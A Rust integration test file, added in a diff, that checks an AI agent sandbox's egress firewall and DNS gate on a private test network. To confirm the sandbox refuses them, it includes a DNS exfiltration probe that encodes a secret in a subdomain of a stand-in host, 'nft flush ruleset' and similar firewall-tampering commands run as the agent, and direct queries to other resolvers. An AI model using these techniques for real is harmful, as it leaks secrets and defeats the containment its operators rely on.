@@ -1,0 +1,301 @@
+//! The egress firewall and the DNS gate, on the smallest image with NET_ADMIN: what the agent
+//! can reach, what it cannot, and that it cannot change that. Peers live on a private internal
+//! network; no test touches the internet. Excluded from `cargo xtask test --ci`.
+
+use std::time::Duration;
+
+use sandbox_tests::sandbox::{Peer, SandboxSpec, TestNet, assert_blocked, assert_reaches};
+
+const ALLOWED: &str = "api.allowed.test";
+const BLOCKED: &str = "blocked.test";
+
+fn policy(domains: &[&str]) -> String {
+    let list: Vec<String> = domains.iter().map(|d| format!("  - \"{d}\"\n")).collect();
+    format!("version: 1\ndomains:\n{}", list.concat())
+}
+
+/// A network with one allowed and one blocked peer, and a sandbox allowing `domains`.
+async fn setup(test: &str, domains: &[&str]) -> anyhow::Result<(TestNet, Peer, Peer, SandboxSpec)> {
+    let net = TestNet::create(test).await?;
+    let allowed = Peer::start(&net, &[ALLOWED, "a.wild.test", "wild.test"]).await?;
+    let blocked = Peer::start(&net, &[BLOCKED]).await?;
+    let spec = SandboxSpec::smallest().await?.net_admin().on(&net).drop_in("test.yaml", &policy(domains));
+    Ok((net, allowed, blocked, spec))
+}
+
+#[tokio::test]
+async fn an_allowlisted_name_is_reachable_on_its_ports_and_no_other() -> anyhow::Result<()> {
+    let (_net, _allowed, _blocked, spec) = setup("ports", &[ALLOWED]).await?;
+    let sb = spec.start().await?;
+    assert_reaches(&sb, &format!("{ALLOWED}:443")).await?;
+    assert_reaches(&sb, &format!("{ALLOWED}:80")).await?;
+    let other_port = assert_blocked(&sb, &format!("{ALLOWED}:8443")).await?;
+    assert_eq!(other_port.outcome(), "refused", "the name resolves, the port is not allowed");
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_blocked_name_is_refused_by_the_dns_gate_at_once() -> anyhow::Result<()> {
+    let (_net, _allowed, _blocked, spec) = setup("names", &[ALLOWED]).await?;
+    let sb = spec.start().await?;
+    let probe = assert_blocked(&sb, &format!("{BLOCKED}:443")).await?;
+    assert_eq!(probe.outcome(), "dns:refused");
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_blocked_address_is_refused_at_once_over_ipv4_and_ipv6() -> anyhow::Result<()> {
+    let (_net, allowed, blocked, spec) = setup("addresses", &[ALLOWED]).await?;
+    let sb = spec.start().await?;
+    for addr in [blocked.ipv4, blocked.ipv6, allowed.ipv6] {
+        // The allowed peer's IPv6 address was never in a DNS answer the agent asked for.
+        let probe = assert_blocked(&sb, &format!("{addr}:443")).await?;
+        assert_eq!(probe.outcome(), "refused", "{addr}");
+    }
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_wildcard_allows_subdomains_but_not_its_apex() -> anyhow::Result<()> {
+    let (_net, _allowed, _blocked, spec) = setup("wildcard", &["*.wild.test"]).await?;
+    let sb = spec.start().await?;
+    assert_reaches(&sb, "a.wild.test:443").await?;
+    assert_eq!(assert_blocked(&sb, "wild.test:443").await?.outcome(), "dns:refused");
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_static_cidr_allows_its_ports_by_address() -> anyhow::Result<()> {
+    let net = TestNet::create("cidr").await?;
+    let peer = Peer::start(&net, &["cidr-peer"]).await?;
+    let drop_in = format!(
+        "version: 1\ncidrs:\n  - cidr: {}/32\n    ports: [8443, {}]\n",
+        peer.ipv4,
+        sandbox_tests::sandbox::PEER_UDP
+    );
+    let sb =
+        SandboxSpec::smallest().await?.net_admin().on(&net).drop_in("cidr.yaml", &drop_in).start().await?;
+    assert_reaches(&sb, &format!("{}:8443", peer.ipv4)).await?;
+    assert_eq!(assert_blocked(&sb, &format!("{}:443", peer.ipv4)).await?.outcome(), "refused");
+    let udp =
+        sb.probe(&["udp", &peer.ipv4.to_string(), &sandbox_tests::sandbox::PEER_UDP.to_string()]).await?;
+    assert_eq!(udp.outcome(), "echoed", "UDP to an allowed range: {:?}", udp.fields);
+    Ok(())
+}
+
+#[tokio::test]
+async fn udp_and_icmp_to_a_blocked_host_are_refused() -> anyhow::Result<()> {
+    let (net, _allowed, blocked, spec) = setup("udp-icmp", &[ALLOWED]).await?;
+    let sb = spec.start().await?;
+    // The control: without the firewall the same probes get their answers.
+    let open = SandboxSpec::smallest().await?.on(&net).env("SANDBOX_FIREWALL", "off").start().await?;
+    let udp_port = sandbox_tests::sandbox::PEER_UDP.to_string();
+    for addr in [blocked.ipv4, blocked.ipv6] {
+        let addr = addr.to_string();
+        assert_eq!(
+            open.probe(&["udp", &addr, &udp_port]).await?.outcome(),
+            "echoed",
+            "control: UDP to {addr}"
+        );
+        assert_eq!(open.probe(&["icmp", &addr]).await?.outcome(), "reply", "control: ICMP to {addr}");
+
+        let udp = sb.probe(&["udp", &addr, &udp_port]).await?;
+        assert_eq!(udp.outcome(), "not-permitted", "UDP to {addr}: {:?}", udp.fields);
+        let icmp = sb.probe(&["icmp", &addr, "--timeout-ms", "1000"]).await?;
+        // Linux reports the rejection to an IPv4 ping socket at once; an IPv6 ping socket
+        // ignores it, so there the echo just never comes back.
+        let expected = if addr.contains(':') { "timeout" } else { "not-permitted" };
+        assert_eq!(icmp.outcome(), expected, "ICMP to {addr}: {:?}", icmp.fields);
+    }
+    Ok(())
+}
+
+#[tokio::test]
+async fn dns_exfiltration_never_reaches_the_resolver() -> anyhow::Result<()> {
+    let net = TestNet::create("exfil").await?;
+    let dns = Peer::start_dns(&net).await?;
+    let target = Peer::start(&net, &["target-peer"]).await?;
+    dns.set_dns("named.test", target.ipv4, 300).await?;
+    let sb = SandboxSpec::smallest()
+        .await?
+        .net_admin()
+        .on(&net)
+        .dns(&dns)
+        .drop_in("t.txt", "named.test\n")
+        .start()
+        .await?;
+
+    let secret = sb.probe(&["dns", "c2VjcmV0LWtleQ.exfil.test"]).await?;
+    assert_eq!(secret.outcome(), "dns:refused");
+    assert_reaches(&sb, "named.test:443").await?;
+    let queries = dns.dns_queries().await?;
+    assert!(queries.contains(&"named.test".to_string()), "the allowed name went upstream: {queries:?}");
+    assert!(
+        !queries.iter().any(|q| q.contains("exfil")),
+        "the refused name reached the resolver: {queries:?}"
+    );
+    Ok(())
+}
+
+#[tokio::test]
+async fn the_agent_cannot_query_another_resolver_or_dockers_directly() -> anyhow::Result<()> {
+    let net = TestNet::create("resolvers").await?;
+    let dns = Peer::start_dns(&net).await?;
+    dns.set_dns("named.test", dns.ipv4, 300).await?;
+    let sb = SandboxSpec::smallest()
+        .await?
+        .net_admin()
+        .on(&net)
+        .dns(&dns)
+        .drop_in("t.txt", "named.test\n")
+        .start()
+        .await?;
+    let direct =
+        sb.probe(&["dns", "named.test", "--server", &dns.ipv4.to_string(), "--timeout-ms", "1000"]).await?;
+    assert_eq!(direct.outcome(), "dns:not-permitted", "{:?}", direct.fields);
+    let docker_dns =
+        sb.probe(&["dns", "named.test", "--server", "127.0.0.11", "--timeout-ms", "1000"]).await?;
+    assert_eq!(docker_dns.outcome(), "dns:not-permitted", "{:?}", docker_dns.fields);
+    assert!(dns.dns_queries().await?.is_empty(), "a query reached the resolver");
+    // Root (PID 1's gate, and Docker's own resolver) still can: Docker's DNS keeps working.
+    let root =
+        sb.exec(&[sandbox_tests::sandbox::PROBE, "dns", "named.test", "--server", "127.0.0.11"]).await?;
+    assert!(root.stdout.contains("outcome=dns:noerror"), "{root:?}");
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_name_moved_to_a_new_address_is_reachable_there() -> anyhow::Result<()> {
+    let net = TestNet::create("rotation").await?;
+    let dns = Peer::start_dns(&net).await?;
+    let (first, second) = (Peer::start(&net, &["first"]).await?, Peer::start(&net, &["second"]).await?);
+    dns.set_dns("cdn.rotate.test", first.ipv4, 1).await?;
+    let sb = SandboxSpec::smallest()
+        .await?
+        .net_admin()
+        .on(&net)
+        .dns(&dns)
+        .drop_in("r.txt", "cdn.rotate.test\n")
+        .start()
+        .await?;
+    assert_eq!(assert_reaches(&sb, "cdn.rotate.test:443").await?.fields["address"], first.ipv4.to_string());
+    assert_eq!(assert_blocked(&sb, &format!("{}:443", second.ipv4)).await?.outcome(), "refused");
+    dns.set_dns("cdn.rotate.test", second.ipv4, 1).await?;
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+    assert_eq!(assert_reaches(&sb, "cdn.rotate.test:443").await?.fields["address"], second.ipv4.to_string());
+    Ok(())
+}
+
+#[tokio::test]
+async fn the_agent_cannot_reprogram_the_firewall() -> anyhow::Result<()> {
+    let (_net, _allowed, blocked, spec) = setup("reprogram", &[ALLOWED]).await?;
+    let sb = spec.start().await?;
+    for cmd in [
+        "nft flush ruleset",
+        "nft delete table inet agent_sandbox",
+        "nft add rule inet agent_sandbox output accept",
+    ] {
+        let out = sb.as_agent(&["sh", "-c", cmd]).await?;
+        assert_ne!(out.code, 0, "`{cmd}` as the agent succeeded: {out:?}");
+        assert!(out.stderr.contains("Operation not permitted"), "`{cmd}`: {out:?}");
+    }
+    assert_eq!(assert_blocked(&sb, &format!("{}:443", blocked.ipv4)).await?.outcome(), "refused");
+    Ok(())
+}
+
+#[tokio::test]
+async fn drop_ins_and_txt_lists_add_to_the_baked_policy() -> anyhow::Result<()> {
+    let net = TestNet::create("dropins").await?;
+    let _peers = (Peer::start(&net, &["yaml.test"]).await?, Peer::start(&net, &["list.test"]).await?);
+    let sb = SandboxSpec::smallest()
+        .await?
+        .net_admin()
+        .on(&net)
+        .drop_in("a.yaml", "version: 1\ndomains: [yaml.test]\n")
+        .drop_in("b.txt", "# a comment\nlist.test:8443\n")
+        .start()
+        .await?;
+    assert_reaches(&sb, "yaml.test:443").await?;
+    assert_reaches(&sb, "list.test:8443").await?;
+    assert_eq!(assert_blocked(&sb, "list.test:443").await?.outcome(), "refused", "the list named only 8443");
+    let status = sb.exec(&["sandbox-status"]).await?;
+    assert!(
+        status.stdout.contains("list.test (8443)")
+            && status.stdout.contains("/etc/agent-sandbox/policy.d/b.txt"),
+        "{status:?}"
+    );
+    Ok(())
+}
+
+#[tokio::test]
+async fn sighup_reloads_the_policy_without_touching_the_session() -> anyhow::Result<()> {
+    let net = TestNet::create("reload").await?;
+    let _peers = (Peer::start(&net, &["old.test"]).await?, Peer::start(&net, &["new.test"]).await?);
+    let sb =
+        SandboxSpec::smallest().await?.net_admin().on(&net).drop_in("r.txt", "old.test\n").start().await?;
+    let panes = || sb.as_agent(&["tmux", "list-panes", "-a", "-F", "#{pane_pid}"]);
+    let before = panes().await?.stdout;
+    assert_reaches(&sb, "old.test:443").await?;
+    assert_blocked(&sb, "new.test:443").await?;
+
+    sb.write_drop_in("r.txt", "new.test\n")?;
+    sb.signal("SIGHUP").await?;
+    sb.wait_for_stdout("sandbox reloaded", 1).await?;
+    assert_reaches(&sb, "new.test:443").await?;
+    assert_eq!(assert_blocked(&sb, "old.test:443").await?.outcome(), "dns:refused");
+    assert_eq!(panes().await?.stdout, before, "the session's pane was restarted");
+
+    sb.write_drop_in("r.txt", "bad_name.test\n")?;
+    sb.signal("SIGHUP").await?;
+    for _ in 0..50 {
+        if sb.logs().await?.1.contains("reload failed") {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let (_, stderr) = sb.logs().await?;
+    assert!(
+        stderr.contains("reload failed, the current policy stays") && stderr.contains("r.txt:1:1"),
+        "{stderr}"
+    );
+    assert_reaches(&sb, "new.test:443").await?;
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_restarted_container_applies_the_firewall_again() -> anyhow::Result<()> {
+    let (_net, _allowed, blocked, spec) = setup("restart", &[ALLOWED]).await?;
+    let sb = spec.start().await?;
+    sb.container.stop().await?;
+    sb.container.start().await?;
+    sb.wait_for_stdout("sandbox ready", 2).await?;
+    assert_reaches(&sb, &format!("{ALLOWED}:443")).await?;
+    assert_eq!(assert_blocked(&sb, &format!("{}:443", blocked.ipv4)).await?.outcome(), "refused");
+    assert_eq!(assert_blocked(&sb, &format!("{BLOCKED}:443")).await?.outcome(), "dns:refused");
+    Ok(())
+}
+
+#[tokio::test]
+async fn the_denial_log_records_refused_names_and_connections() -> anyhow::Result<()> {
+    let (_net, _allowed, blocked, spec) = setup("denials", &[ALLOWED]).await?;
+    let sb = spec.start().await?;
+    assert_blocked(&sb, &format!("{BLOCKED}:443")).await?;
+    assert_blocked(&sb, &format!("{}:443", blocked.ipv4)).await?;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let file = sb.exec(&["cat", "/run/agent-sandbox/denials.jsonl"]).await?.stdout;
+    let (_, stderr) = sb.logs().await?;
+    for log in [&file, &stderr] {
+        assert!(log.contains(r#""denied":"dns","name":"blocked.test""#), "{log}");
+        let connection =
+            format!(r#""address":"{}","denied":"connection","port":443,"protocol":"tcp""#, blocked.ipv4);
+        assert!(log.contains(&connection) && log.contains(r#""uid":1000"#), "{log}");
+    }
+    Ok(())
+}
+
+#[tokio::test]
+async fn processes_of_a_sandbox_with_net_admin_hold_no_capability() -> anyhow::Result<()> {
+    let (_net, _allowed, _blocked, spec) = setup("caps", &[ALLOWED]).await?;
+    let sb = spec.start().await?;
+    crate::privileges::assert_agent_processes_unprivileged(&sb).await
+}
